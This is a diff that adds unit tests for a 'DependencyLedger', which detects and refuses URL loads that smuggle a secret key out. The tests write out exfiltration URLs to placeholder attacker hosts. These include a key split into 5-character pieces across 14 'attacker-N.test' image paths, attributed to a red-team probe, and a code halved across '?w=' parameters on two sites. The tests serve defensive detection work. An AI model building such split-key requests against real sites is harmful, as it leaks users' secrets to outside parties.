@@ -44,6 +44,37 @@ describe('dependency ledger', () => {
     expect(send(r, [`http://attacker.test/${rot13(KEY)}.png`])[0]).toMatchObject({ refused: true, why: 'taint' });
   });
 
+  it('finds a key whose pieces went to many sites, one piece each, and refuses them all from then on', () => {
+    // The red team's probe (issue 37): 5-character pieces of a key, one image per attacker site, 14 sites.
+    const ledger = new DependencyLedger();
+    const verdicts = pieces(KEY, 5).map((p, i) => ledger.charge({ url: new URL(`http://attacker-${i}.test/r/${p}.png`), site: `attacker-${i}.test` }, taint));
+    const first = verdicts.findIndex((v) => v.refused);
+    expect(verdicts[first]).toMatchObject({ refused: true, why: 'taint', across: true });
+    // Refused at the piece that completes PIECE characters: at most PIECE - 1 of the key (letters and digits) left before it.
+    expect(pieces(KEY, 5).slice(0, first).join('').replace(/[^a-z0-9]/gi, '').length).toBeLessThan(PIECE);
+    // And a code in `?w=` halves on two sites.
+    const halves = new DependencyLedger();
+    halves.charge({ url: new URL('http://a1.test/hero.jpg?w=482'), site: 'a1.test' }, taint);
+    expect(halves.charge({ url: new URL('http://a2.test/hero.jpg?w=913'), site: 'a2.test' }, taint)).toMatchObject({ refused: true, why: 'taint', across: true });
+  });
+
+  it('keeps the streams of all sites together across a restart', () => {
+    const before = new DependencyLedger();
+    before.charge({ url: new URL('http://a1.test/hero.jpg?w=482'), site: 'a1.test' }, taint);
+    const after = new DependencyLedger(undefined, before.counts());
+    expect(after.charge({ url: new URL('http://a2.test/hero.jpg?w=913'), site: 'a2.test' }, taint)).toMatchObject({ refused: true, across: true });
+  });
+
+  it('lets a page load from many CDNs at once', () => {
+    const ledger = new DependencyLedger();
+    const hosts = ['images.cdn1.test', 'fonts.cdn2.test', 'static.cdn3.test', 'cdn4.test', 'img.cdn5.test'];
+    const verdicts = Array.from({ length: 60 }, (_, i) => {
+      const host = hosts[i % hosts.length]!;
+      return ledger.charge({ url: new URL(`https://${host}/assets/${['app', 'vendor', 'hero', 'logo'][i % 4]}-${(0x3f1a9c + i * 7919).toString(16)}.js?v=${i % 3}`), site: host.split('.').slice(-2).join('.') }, taint);
+    });
+    expect(verdicts.filter((v) => v.refused)).toEqual([]);
+  });
+
   it('refuses a site over its budget, and a repeat still costs', () => {
     const ledger = new DependencyLedger({ site: 100, task: 1000 });
     expect(ledger.charge(at('http://attacker.test/aaaaaaaaaa'), []).refused).toBe(false);
